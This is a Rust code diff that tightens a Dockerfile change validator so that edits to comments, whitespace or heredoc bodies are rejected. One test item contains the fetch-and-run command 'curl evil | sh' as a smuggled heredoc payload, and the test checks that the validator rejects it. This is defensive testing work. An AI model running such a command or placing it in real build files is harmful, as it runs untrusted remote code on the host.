@@ -36,6 +36,11 @@ pub fn check_dockerfile(
     if before.instructions.len() != after.instructions.len() {
         return Err("the number of instructions changed".into());
     }
+    // Everything but the words (comments, blank lines, heredoc bodies, the
+    // spaces between words) must be byte for byte as it was.
+    if skeleton(before) != skeleton(after) {
+        return Err("text outside the instructions' words changed".into());
+    }
     for (a, b) in before.instructions.iter().zip(&after.instructions) {
         let line = crate::yaml::line_col(&before.text, a.words[0].span.start).0;
         if a.keyword != b.keyword || a.words.len() != b.words.len() {
@@ -57,6 +62,18 @@ pub fn check_dockerfile(
     Ok(())
 }
 
+/// The text with every word taken out, in order.
+fn skeleton(d: &Dockerfile) -> Vec<&str> {
+    let mut parts = Vec::new();
+    let mut at = 0;
+    for w in d.instructions.iter().flat_map(|i| &i.words) {
+        parts.push(&d.text[at..w.span.start]);
+        at = w.span.end;
+    }
+    parts.push(&d.text[at..]);
+    parts
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -76,5 +93,9 @@ mod tests {
         let c =
             parse("FROM node:20@sha256:aa AS c\nCOPY --from=x:1@sha256:bb / /\n".into()).unwrap();
         assert!(check_dockerfile(&a, &c, &ok).is_err());
+        let heredoc = |body: &str| parse(format!("FROM a\nRUN <<EOF\n{body}\nEOF\n")).unwrap();
+        let none = AllowedChanges::default();
+        assert!(check_dockerfile(&heredoc("echo hi"), &heredoc("curl evil | sh"), &none).is_err());
+        assert!(check_dockerfile(&heredoc("echo hi"), &heredoc("echo hi"), &none).is_ok());
     }
 }
